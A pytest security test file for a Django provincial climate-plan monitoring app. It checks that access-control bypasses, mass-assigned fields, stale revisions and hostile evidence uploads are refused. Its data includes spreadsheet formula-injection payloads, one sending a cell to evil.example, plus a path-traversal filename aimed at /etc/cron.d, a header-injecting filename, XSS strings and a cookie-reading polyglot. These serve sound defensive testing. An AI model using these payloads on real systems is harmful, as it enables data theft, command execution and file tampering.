# ruff: noqa: F811 - the monitoring fixtures (users, plans) are imported, then named as arguments
"""Attacks on monitoring: another plan's report, evidence, meeting, member, period or
action id in the addresses of one's own plan (IDOR), a reporter reporting for another
agency's action, hostile evidence files (a path in the name, a content that is not what
its name says, a polyglot, a stored path that leaves the evidence folder), formula
injection in texts that reach the exports, a stale revision, and fields that are not
the form's (state, agency, review) slipped into a report.

Each refused attack is answered with 403/404/409 or located problems and leaves the
records as they were.
"""

from __future__ import annotations

import datetime
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import load_workbook
from rest_framework.test import APIClient

from climateplan.monitoring.web.models import (
    ActionLink,
    Agency,
    Evidence,
    Meeting,
    MeetingDecision,
    Monitoring,
    ProgressReport,
    ReportEvent,
    ReportingPeriod,
    WorkingGroupMember,
)
from climateplan.plans.web.models import Action, Plan, Section
from tests.monitoring.web.conftest import (  # noqa: F401 - fixtures
    _empty_cache,
    base_inventory,
    draft_plan,
    monitored_plan,
    users,
)

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64


def period_of(plan, state="open") -> ReportingPeriod:
    """FY2025 CE (FY2568 BE) first half: 1 Oct 2024 - 31 Mar 2025, due 30 Apr 2025."""
    return ReportingPeriod.objects.create(
        plan=plan,
        fiscal_year=2025,
        number=1,
        starts=datetime.date(2024, 10, 1),
        ends=datetime.date(2025, 3, 31),
        due=datetime.date(2025, 4, 30),
        state=state,
    )


class Lampang:
    """Another province's published plan with an action, a period, a report with
    evidence on disk, a meeting and a working-group member."""

    def __init__(self, data_dir):
        self.plan = Plan.objects.create(
            province="TH-52",
            title_th="แผนการเปลี่ยนแปลงสภาพภูมิอากาศจังหวัดลำปาง",
            start_year=2023,
            end_year=2027,
            base_year=2022,
            state="published",
        )
        section = Section.objects.create(plan=self.plan, kind="reduction", state="published")
        self.action = Action.objects.create(
            section=section, code="LP-01", name_th="ไฟถนน LED", owner_agency="สำนักงานพลังงานจังหวัด"
        )
        self.period = period_of(self.plan)
        self.report = ProgressReport.objects.create(
            action=self.action, period=self.period, status="on_track", comment="ลับของลำปาง"
        )
        rel = f"evidence/{self.plan.pk}/{self.report.pk}/{'c' * 64}.pdf"
        (data_dir / rel).parent.mkdir(parents=True, exist_ok=True)
        (data_dir / rel).write_bytes(PDF)
        self.evidence = Evidence.objects.create(
            report=self.report,
            path=rel,
            name="ลำปาง.pdf",
            content_type="application/pdf",
            size=len(PDF),
            sha256="c" * 64,
        )
        self.meeting = Meeting.objects.create(
            plan=self.plan, number="1/2568", date=datetime.date(2025, 5, 1), minutes="ลับของลำปาง"
        )
        self.member = WorkingGroupMember.objects.create(
            plan=self.plan, agency=Agency.objects.get(code="PEO")
        )

    def state(self) -> tuple:
        return (
            tuple(
                ProgressReport.objects.filter(pk=self.report.pk).values_list(
                    "state", "revision", "comment"
                )
            ),
            Evidence.objects.filter(report=self.report).count(),
            tuple(Meeting.objects.filter(plan=self.plan).values_list("number", "minutes")),
            tuple(
                WorkingGroupMember.objects.filter(plan=self.plan).values_list("agency_id", "role")
            ),
            tuple(ReportingPeriod.objects.filter(plan=self.plan).values_list("state", "due")),
        )


@pytest.fixture
def data_dir(settings, tmp_path):
    settings.DATA_DIR = tmp_path
    return tmp_path


@pytest.fixture
def lampang(data_dir, users):
    return Lampang(data_dir)


def page(users, name) -> Client:
    client = Client()
    client.force_login(users[name])
    return client


def api(users, name) -> APIClient:
    client = APIClient()
    client.force_login(users[name])
    return client


def action_of(plan, code) -> Action:
    return Action.objects.get(section__plan=plan, code=code)


# --------------------------------------------------------------------------- IDOR


def test_another_plans_ids_in_ones_own_plan_are_404(users, monitored_plan, lampang):
    """Chiang Mai's editor (who manages their own plan) puts Lampang's ids into the
    addresses of the Chiang Mai plan: every one is a 404 and nothing of Lampang changes."""
    cm = monitored_plan
    own_period = period_of(cm)
    before = lampang.state()
    editor = page(users, "editor")
    base = f"/plans/{cm.pk}/monitoring"
    gets = [
        f"{base}/reports/evidence/{lampang.evidence.pk}/",
        f"{base}/reports/{lampang.period.pk}/",
        f"{base}/reports/{lampang.period.pk}/actions/{action_of(cm, 'M01').pk}/",
        f"{base}/reports/{own_period.pk}/actions/{lampang.action.pk}/",
        f"{base}/meetings/{lampang.meeting.pk}/",
        f"{base}/meetings/{lampang.meeting.pk}/edit/",
        f"{base}/meetings/{lampang.meeting.pk}/report/",
        f"{base}/meetings/{lampang.meeting.pk}/report.xlsx",
        f"{base}/integration/actions/{lampang.action.pk}/",
        f"{base}/integration/actions/{lampang.action.pk}/proposal.xlsx",
    ]
    for url in gets:
        answer = editor.get(url)
        assert answer.status_code == 404, url
        assert "ลับของลำปาง".encode() not in answer.content, url
    revision = Monitoring.objects.get_or_create(plan=cm)[0].revision
    posts = [
        (f"{base}/reports/{lampang.period.pk}/state/", {"move": "close"}),
        (f"{base}/reports/{lampang.period.pk}/due/", {"due": "2025-06-30"}),
        (
            f"{base}/reports/{own_period.pk}/actions/{lampang.action.pk}/",
            {"status": "completed", "percent": "100", "revision": "0"},
        ),
        (
            f"{base}/reports/{lampang.period.pk}/actions/{lampang.action.pk}/review/",
            {"decision": "accept", "revision": str(lampang.report.revision)},
        ),
        (f"{base}/meetings/{lampang.meeting.pk}/edit/", {"number": "9/2568"}),
        (f"{base}/meetings/{lampang.meeting.pk}/delete/", {}),
        (f"{base}/group/{lampang.member.pk}/edit/", {"role": "chair"}),
        (f"{base}/group/{lampang.member.pk}/remove/", {}),
        (f"{base}/group/{lampang.member.pk}/move/", {"direction": "up"}),
        (f"{base}/integration/actions/{lampang.action.pk}/", {"rationale": "x"}),
    ]
    for url, data in posts:
        answer = editor.post(url, {**data, "revision": data.get("revision", revision)})
        if "/group/" in url:
            # members are looked up inside the plan only: a foreign id reads as "no
            # longer in the working group" (a redirect with that message)
            assert answer.status_code in (302, 404), url
        else:
            assert answer.status_code == 404, url
        assert "ลับของลำปาง".encode() not in answer.content, url
    # the API: Lampang's report under Chiang Mai's plan
    client = api(users, "editor")
    url = f"/api/plans/{cm.pk}/monitoring/reports/{lampang.report.pk}/"
    assert client.get(url).status_code == 404
    body = {"revision": lampang.report.revision, "status": "completed", "percent": 100}
    assert client.put(url, body, format="json").status_code == 404
    assert client.post(f"{url}submit/", body, format="json").status_code == 404
    review = {"action": "accept", "revision": lampang.report.revision}
    assert client.post(f"{url}review/", review, format="json").status_code == 404
    made = client.post(
        f"/api/plans/{cm.pk}/monitoring/reports/",
        {"period": lampang.period.pk, "action": "LP-01", "status": "on_track"},
        format="json",
    )
    assert made.status_code == 400  # neither is the plan's: named, nothing made
    assert {p["column"] for p in made.json()["problems"]} == {"action", "period"}
    assert lampang.state() == before
    assert not ProgressReport.objects.filter(period=own_period).exists()


# --------------------------------------------------------------------------- reporters


def test_a_header_in_an_evidence_name_goes_nowhere(users, monitored_plan, data_dir):
    plan, period = monitored_plan, period_of(monitored_plan)
    m01 = action_of(plan, "M01")
    upload = SimpleUploadedFile('x"; filename=evil.html\r\nX-Evil: 1.pdf', PDF, "text/html")
    answer = _post_evidence(users, plan, period, m01, [upload])
    # whatever the name is read as, it is either refused by its type or kept as a
    # plain name, and a download never carries it as a header
    for row in Evidence.objects.all():
        assert "\r" not in row.name and "\n" not in row.name
        download = page(users, "editor").get(
            f"/plans/{plan.pk}/monitoring/reports/evidence/{row.pk}/"
        )
        assert "X-Evil" not in download.headers
    assert answer.status_code in (302, 400)
    if answer.status_code == 400:
        assert not Evidence.objects.exists() and not ProgressReport.objects.exists()


def test_a_reporter_cannot_report_for_another_agencys_action(users, monitored_plan, data_dir):
    plan = monitored_plan
    period = period_of(plan)
    m01 = action_of(plan, "M01")  # PEO with PEA: not the health office's
    url = f"/plans/{plan.pk}/monitoring/reports/{period.pk}/actions/{m01.pk}/"
    pho = page(users, "reporter_pho")
    assert pho.get(url).status_code == 404
    answer = pho.post(
        url, {"status": "completed", "percent": "100", "revision": "0", "intent": "submit"}
    )
    assert answer.status_code == 404
    via_api = api(users, "reporter_pho").post(
        f"/api/plans/{plan.pk}/monitoring/reports/",
        {"period": period.pk, "action": "M01", "status": "completed", "percent": 100},
        format="json",
    )
    assert via_api.status_code == 403
    # the PEO reporter's draft of M01 is not for the PHO reporter to change either
    made = api(users, "reporter").post(
        f"/api/plans/{plan.pk}/monitoring/reports/",
        {"period": period.pk, "action": "M01", "status": "on_track", "percent": 20},
        format="json",
    )
    assert made.status_code == 201
    report = made.json()
    hostile = api(users, "reporter_pho").put(
        f"/api/plans/{plan.pk}/monitoring/reports/{report['id']}/",
        {"revision": report["revision"], "status": "cancelled", "reason": "x"},
        format="json",
    )
    assert hostile.status_code == 404
    # a reporter of the same agency in another province reports nothing in Chiang Mai
    other = api(users, "other_reporter").post(
        f"/api/plans/{plan.pk}/monitoring/reports/",
        {"period": period.pk, "action": "M03", "status": "on_track"},
        format="json",
    )
    assert other.status_code == 404
    row = ProgressReport.objects.get()
    assert (row.action.code, row.status, row.percent, row.state) == ("M01", "on_track", 20, "draft")


def test_fields_outside_the_form_are_ignored_on_the_page(users, monitored_plan, data_dir):
    plan = monitored_plan
    period = period_of(plan)
    m01 = action_of(plan, "M01")
    url = f"/plans/{plan.pk}/monitoring/reports/{period.pk}/actions/{m01.pk}/"
    answer = page(users, "reporter").post(
        url,
        {
            "status": "on_track",
            "percent": "25",
            "revision": "0",
            "intent": "save",
            "state": "accepted",
            "agency": "PHO",
            "achieved_t": "99999",
            "review_comment": "accepted by myself",
            "reviewed_by": str(users["editor"].pk),
            "action": str(action_of(plan, "CM-A02").pk),
            "period": "999",
        },
    )
    assert answer.status_code == 302, answer.content[:500]
    row = ProgressReport.objects.get()
    assert (row.action_id, row.period_id, row.state, row.agency.code) == (
        m01.pk,
        period.pk,
        "draft",
        "PEO",
    )
    assert (row.achieved_t, row.review_comment, row.reviewed_by) == (None, "", None)


# --------------------------------------------------------------------------- evidence


def _post_evidence(users, plan, period, action, files, name="reporter"):
    url = f"/plans/{plan.pk}/monitoring/reports/{period.pk}/actions/{action.pk}/"
    data = {"status": "on_track", "percent": "10", "revision": "0", "intent": "save"}
    data["evidence"] = files
    return page(users, name).post(url, data)


def test_evidence_name_with_a_path_is_kept_as_a_name_only(users, monitored_plan, data_dir):
    plan, period = monitored_plan, period_of(monitored_plan)
    m01 = action_of(plan, "M01")
    upload = SimpleUploadedFile("../../../../etc/cron.d/evil.pdf", PDF, "application/pdf")
    answer = _post_evidence(users, plan, period, m01, [upload])
    assert answer.status_code == 302, answer.content[:500]
    row = Evidence.objects.get()
    assert "/" not in row.name and "\\" not in row.name and ".." not in row.name
    report = row.report
    # stored content-addressed under the evidence folder, never where the name points
    assert row.path == f"evidence/{plan.pk}/{report.pk}/{row.sha256}.pdf"
    assert (data_dir / row.path).read_bytes() == PDF
    assert not (data_dir.parent / "etc").exists()
    assert not any("cron" in str(p) for p in data_dir.rglob("*"))


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("report.pdf", b"<html><script>alert(1)</script></html>", "application/pdf"),
        ("photo.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "image/png"),
        ("photo.jpg", PNG, "image/jpeg"),  # a PNG named .jpg
        ("page.html", b"<html></html>", "application/pdf"),
        ("macro.docm", b"PK\x03\x04", "application/pdf"),
        ("evil.pdf.exe", b"MZ\x90\x00", "application/pdf"),
    ],
)
def test_evidence_of_the_wrong_type_is_refused(
    users, monitored_plan, data_dir, name, content, content_type
):
    plan, period = monitored_plan, period_of(monitored_plan)
    m01 = action_of(plan, "M01")
    upload = SimpleUploadedFile(name, content, content_type)
    answer = _post_evidence(users, plan, period, m01, [upload])
    assert answer.status_code == 400
    assert name.encode() in answer.content  # the problem names the file
    assert not ProgressReport.objects.exists()  # nothing half-saved
    assert not Evidence.objects.exists()
    assert not list(data_dir.rglob("*.*"))


def test_a_polyglot_is_served_inert(users, monitored_plan, data_dir):
    """A PDF whose body carries HTML and script: accepted as the PDF it starts as, and
    only ever served as a download the browser does not sniff or run."""
    plan, period = monitored_plan, period_of(monitored_plan)
    m01 = action_of(plan, "M01")
    polyglot = PDF + b"<html><body><script>alert(document.cookie)</script></body></html>"
    upload = SimpleUploadedFile('ภาพถ่าย "ก";x=1.pdf', polyglot, "text/html")
    answer = _post_evidence(users, plan, period, m01, [upload])
    assert answer.status_code == 302, answer.content[:500]
    row = Evidence.objects.get()
    assert row.content_type == "application/pdf"  # from the checked type, not the client
    download = page(users, "viewer").get(f"/plans/{plan.pk}/monitoring/reports/evidence/{row.pk}/")
    assert download.status_code == 200
    assert download["Content-Type"] == "application/pdf"
    assert download["X-Content-Type-Options"] == "nosniff"
    disposition = download["Content-Disposition"]
    assert disposition.startswith("attachment")
    assert "\r" not in disposition and "\n" not in disposition
    assert "sandbox" in download["Content-Security-Policy"]
    assert b"".join(download.streaming_content) == polyglot


def test_a_stored_path_outside_the_evidence_folder_is_never_served(users, monitored_plan, data_dir):
    plan, period = monitored_plan, period_of(monitored_plan)
    report = ProgressReport.objects.create(
        action=action_of(plan, "M01"), period=period, status="on_track"
    )
    secret = data_dir / "climateplan.sqlite3"
    secret.write_bytes(b"SQLite format 3\x00 secret")
    outside = data_dir.parent / "outside.pdf"
    outside.write_bytes(PDF)
    viewer = page(users, "editor")
    for path in (
        "climateplan.sqlite3",
        "evidence/../climateplan.sqlite3",
        str(outside),
        "../outside.pdf",
    ):
        row = Evidence.objects.create(
            report=report,
            path=path,
            name="x.pdf",
            content_type="application/pdf",
            size=10,
            sha256="d" * 64,
        )
        answer = viewer.get(f"/plans/{plan.pk}/monitoring/reports/evidence/{row.pk}/")
        assert answer.status_code == 404, path


def test_evidence_of_another_agencys_report_is_not_served(users, monitored_plan, data_dir):
    plan, period = monitored_plan, period_of(monitored_plan)
    upload = SimpleUploadedFile("photo.pdf", PDF, "application/pdf")
    assert _post_evidence(users, plan, period, action_of(plan, "M01"), [upload]).status_code == 302
    row = Evidence.objects.get()
    url = f"/plans/{plan.pk}/monitoring/reports/evidence/{row.pk}/"
    assert page(users, "reporter_pho").get(url).status_code == 404
    assert page(users, "other_editor").get(url).status_code == 404
    assert Client().get(url).status_code in (302, 404)
    assert page(users, "reporter").get(url).status_code == 200


# --------------------------------------------------------------------------- exports


def _cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_inert(data: bytes, payloads: list[str]) -> None:
    cells = _cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for payload in payloads:
        assert "'" + payload in texts, payload  # present, as text
        assert payload not in texts, payload  # never as it was typed


def test_formulas_typed_into_reports_and_links_come_out_as_text(users, monitored_plan, data_dir):
    plan, period = monitored_plan, period_of(monitored_plan)
    m01, m02 = action_of(plan, "M01"), action_of(plan, "M02")
    # report comments reach the meeting's progress report
    for action, payload in ((m01, PAYLOADS[0]), (m02, PAYLOADS[1])):
        ProgressReport.objects.create(
            action=action,
            period=period,
            status="delayed",
            reason=payload,
            comment=payload,
            state="submitted",
        )
    meeting = Meeting.objects.create(
        plan=plan, number="1/2568", date=datetime.date(2025, 5, 15), period=period
    )
    decision = MeetingDecision.objects.create(meeting=meeting, text=PAYLOADS[2])
    decision.actions.add(m01)
    editor = page(users, "editor")
    xlsx = editor.get(f"/plans/{plan.pk}/monitoring/meetings/{meeting.pk}/report.xlsx")
    assert xlsx.status_code == 200
    data = b"".join(xlsx.streaming_content) if xlsx.streaming else xlsx.content
    _assert_inert(data, PAYLOADS[:2])
    # the project sheet of an action reaches the development-plan annex
    ActionLink.objects.create(action=m01, rationale=PAYLOADS[3], objectives=PAYLOADS[0])
    annex = editor.get(f"/plans/{plan.pk}/monitoring/integration/annex.xlsx")
    assert annex.status_code == 200
    data = b"".join(annex.streaming_content) if annex.streaming else annex.content
    _assert_inert(data, [PAYLOADS[3], PAYLOADS[0]])
    # the Environment Fund proposal of the action carries its project sheet too
    proposal = editor.get(f"/plans/{plan.pk}/monitoring/integration/actions/{m01.pk}/proposal.xlsx")
    assert proposal.status_code == 200
    data = b"".join(proposal.streaming_content) if proposal.streaming else proposal.content
    _assert_inert(data, [PAYLOADS[3], PAYLOADS[0]])
    # a development plan's item names reach its download
    from climateplan.monitoring.web.models import DevelopmentItem, DevelopmentPlan

    devplan = DevelopmentPlan.objects.create(
        province="TH-50", start_year=2023, end_year=2027, title_th="แผนพัฒนาจังหวัดเชียงใหม่"
    )
    DevelopmentItem.objects.create(
        development_plan=devplan, level="issue", code="I1", name_th=PAYLOADS[1]
    )
    download = editor.get(f"/provinces/TH-50/development-plans/{devplan.pk}/development_plan.xlsx")
    assert download.status_code == 200
    data = b"".join(download.streaming_content) if download.streaming else download.content
    _assert_inert(data, [PAYLOADS[1]])
    # and the decision shows as text on the meeting's page (no markup either)
    ActionLink.objects.filter(action=m01).update(activities="<script>alert(1)</script>")
    shown = editor.get(f"/plans/{plan.pk}/monitoring/meetings/{meeting.pk}/")
    assert shown.status_code == 200
    assert PAYLOADS[2].replace("'", "&#x27;").encode() in shown.content


def test_script_in_texts_is_escaped_on_the_pages(users, monitored_plan, data_dir):
    plan, period = monitored_plan, period_of(monitored_plan)
    m01 = action_of(plan, "M01")
    script = '<script>alert("x")</script><img src=x onerror=alert(1)>'
    ProgressReport.objects.create(
        action=m01, period=period, status="delayed", reason=script, comment=script
    )
    meeting = Meeting.objects.create(
        plan=plan, number="1/2568", date=datetime.date(2025, 5, 15), period=period, minutes=script
    )
    MeetingDecision.objects.create(meeting=meeting, text=script)
    editor = page(users, "editor")
    for url in (
        f"/plans/{plan.pk}/monitoring/reports/{period.pk}/actions/{m01.pk}/",
        f"/plans/{plan.pk}/monitoring/reports/{period.pk}/",
        f"/plans/{plan.pk}/monitoring/meetings/{meeting.pk}/",
        f"/plans/{plan.pk}/monitoring/meetings/{meeting.pk}/report/",
    ):
        answer = editor.get(url)
        assert answer.status_code == 200, url
        assert b'<script>alert("x")' not in answer.content, url
        assert not re.search(rb"<img src=x onerror", answer.content), url


# --------------------------------------------------------------------------- revisions


def test_a_stale_revision_saves_nothing(users, monitored_plan, data_dir):
    plan, period = monitored_plan, period_of(monitored_plan)
    m01 = action_of(plan, "M01")
    url = f"/plans/{plan.pk}/monitoring/reports/{period.pk}/actions/{m01.pk}/"
    reporter = page(users, "reporter")
    first = reporter.post(url, {"status": "on_track", "percent": "10", "revision": "0"})
    assert first.status_code == 302
    row = ProgressReport.objects.get()
    opened = row.revision
    # the editor saves on the same revision first
    assert (
        page(users, "editor")
        .post(url, {"status": "on_track", "percent": "40", "revision": str(opened)})
        .status_code
        == 302
    )
    events = ReportEvent.objects.count()
    late = reporter.post(
        url,
        {
            "status": "completed",
            "percent": "100",
            "revision": str(opened),
            "evidence": [SimpleUploadedFile("photo.pdf", PDF, "application/pdf")],
        },
    )
    assert late.status_code == 409
    row.refresh_from_db()
    assert (row.status, row.percent, row.revision) == ("on_track", 40, opened + 1)
    assert ReportEvent.objects.count() == events
    assert not Evidence.objects.exists()
    assert not list(data_dir.rglob("*.pdf"))  # the file written for it is gone again

    # the secretariat's writes: a stale monitoring revision adds no member
    monitoring = Monitoring.objects.get_or_create(plan=plan)[0]
    stale = monitoring.revision - 1 if monitoring.revision > 1 else monitoring.revision + 5
    answer = page(users, "editor").post(
        f"/plans/{plan.pk}/monitoring/group/add/",
        {"agency": "PEA", "role": "member", "revision": str(stale)},
    )
    assert answer.status_code in (302, 409)
    assert not WorkingGroupMember.objects.filter(plan=plan).exists()
